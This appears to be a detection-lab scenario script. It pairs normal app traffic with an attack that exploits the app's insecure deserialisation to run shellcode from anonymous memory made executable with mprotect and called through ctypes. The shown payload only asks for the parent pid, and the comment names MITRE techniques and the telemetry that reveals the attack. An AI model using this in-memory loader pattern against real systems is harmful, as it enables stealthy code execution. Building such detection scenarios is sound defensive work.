# Shellcode run inside the app through its insecure deserialisation (see app-deserialize-exfil): the code written
# into anonymous memory, made executable with mprotect once written (W^X, as loaders do) and called through ctypes
# — no file on any disk, not even a memfd. The stand-in payload asks the kernel its parent's pid and returns (mov
# eax, 110; syscall; ret), where a real one would be a loader's next stage or a beacon; it starts no program, opens
# no file and sends nothing. What gives it away is only that the app's process made memory executable, which it
# never does otherwise (T1055, T1620, T1027).
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "import ctypes, mmap
code = bytes.fromhex('b86e0000000f05c3')
m = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE)
m.write(code)
addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
libc = ctypes.CDLL(None)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
if libc.mprotect(addr, mmap.PAGESIZE, mmap.PROT_READ | mmap.PROT_EXEC) == 0:
    ctypes.CFUNCTYPE(ctypes.c_int)(addr)()"
}
